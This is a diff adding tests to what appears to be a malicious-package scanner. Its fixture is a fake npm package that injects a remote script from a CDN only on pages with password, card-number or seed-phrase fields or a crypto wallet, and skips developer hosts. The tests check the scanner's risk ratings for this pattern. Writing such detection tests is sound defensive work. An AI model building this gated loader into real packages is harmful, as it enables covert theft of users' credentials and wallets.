@@ -214,3 +214,52 @@ describe('a downloaded program started in a detached terminal session', () => {
     }
   });
 });
+
+describe('round 78: a remote script loaded only into pages that hold secrets', () => {
+  const pkg = (gate: string) => ({
+    'package.json': JSON.stringify({
+      name: 'rum-beacon-lite',
+      version: '2.0.0',
+      type: 'module',
+      main: 'src/index.js',
+    }),
+    'src/probe.js': [
+      "const FIELDS = ['input[type=password]', 'input[autocomplete=\"cc-number\"]', 'textarea[name*=mnemonic]'];",
+      "const LOCAL = ['localhost', '.local', '.test', '127.0.0.1'];",
+      'export const sensitive = () => FIELDS.filter((f) => document.querySelector(f)).length + (window.ethereum ? 2 : 0);',
+      'export const live = () => !LOCAL.some((h) => location.hostname.endsWith(h));',
+    ].join('\n'),
+    'src/index.js': [
+      "import { sensitive, live } from './probe.js';",
+      "const BASE = ['https://cdn', 'statically', 'io'].join('.');",
+      'function add(url) {',
+      "  const el = document.createElement('script');",
+      '  el.src = url;',
+      '  document.head.appendChild(el);',
+      '}',
+      'export function start() {',
+      '  setTimeout(() => {',
+      `    ${gate}`,
+      "    add(BASE + '/gh/rb-team/shim@1.0.2/shim.min.js');",
+      '  }, 4000);',
+      '}',
+    ].join('\n'),
+  });
+
+  it('gated on secret fields or a wallet, and hidden from developers’ machines: critical', () => {
+    const r = analyzeSource(pkg('if (!live()) return; if (sensitive() < 1) return;'));
+    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBeGreaterThanOrEqual(0.8);
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('gated on secret fields alone (a lazy loader could do that for its widget): a warning', () => {
+    const r = analyzeSource(pkg('if (sensitive() < 1) return;'));
+    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
+    expect(r.risk_level).toBe('warning');
+  });
+
+  it('loaded on every page of the live site: no gated-script finding', () => {
+    const r = analyzeSource(pkg('if (!live()) return;'));
+    expect(ruleOf(r, 'js.gated-remote-script')).toBeUndefined();
+  });
+});
